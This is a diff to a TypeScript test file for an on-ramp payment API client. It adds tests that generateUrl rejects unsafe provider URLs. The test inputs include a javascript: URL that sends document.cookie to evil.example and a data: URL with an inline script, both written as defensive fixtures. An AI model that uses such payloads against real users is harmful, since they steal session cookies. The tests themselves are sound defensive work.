@@ -6,6 +6,7 @@
  */
 import { describe, expect, it } from 'vitest';
 import { CloudResponseError } from '../../domain/cloudErrors.ts';
+import { isPorticoError, MESSAGES } from '../../domain/errors.ts';
 import { ONRAMP_DEFAULT_OPTIONS } from '../../domain/onramp/onRampDefaults.ts';
 import { onRampFailureText } from '../../domain/onramp/onRampFailure.ts';
 import type { PaymentCurrency, PurchaseCurrency } from '../../domain/onramp/onRampTypes.ts';
@@ -155,7 +156,8 @@ const CALLS: {
     body: URL_REQUEST,
     answer: { url: 'http://127.0.0.1:4000/onramp/provider/o1?provider=meld' },
     result: 'http://127.0.0.1:4000/onramp/provider/o1?provider=meld',
-    malformed: [{ answer: { url: 'not a url' }, field: 'url' }],
+    // A missing or wrong `url` is refused with a text of its own (the tests at the end).
+    malformed: [],
   },
   {
     name: 'history',
@@ -263,5 +265,21 @@ describe('on-ramp API client (§7 /v1/onramp/*, /v1/generators/onrampurl, histor
   it('a 400 without a message says which call failed', async () => {
     const { api } = apiAnswering(400, 'no json');
     await expect(api.options()).rejects.toThrow('GET /v1/onramp/options failed with HTTP 400');
+  });
+
+  it.each([
+    // The attack: run as the host page in the window the click opened blank (same origin as the host).
+    "javascript:fetch('https://evil.example/?' + document.cookie)",
+    'data:text/html,<script>alert(1)</script>',
+    // Plain http to a host other than the visitor's machine can be rewritten on the way.
+    'http://pay.example.com/buy',
+    'not a url',
+    undefined,
+  ])('attack: generateUrl refuses the provider URL %j with a text the visitor can read', async (url) => {
+    const { api } = apiAnswering(200, { url });
+    const failure = await api.generateUrl(URL_REQUEST).catch((error: unknown) => error);
+    expect(isPorticoError(failure, 'unsafePageAddress')).toBe(true);
+    expect((failure as Error).cause).toBeInstanceOf(CloudResponseError);
+    expect(onRampFailureText(failure)).toBe(MESSAGES.unsafePageAddress);
   });
 });
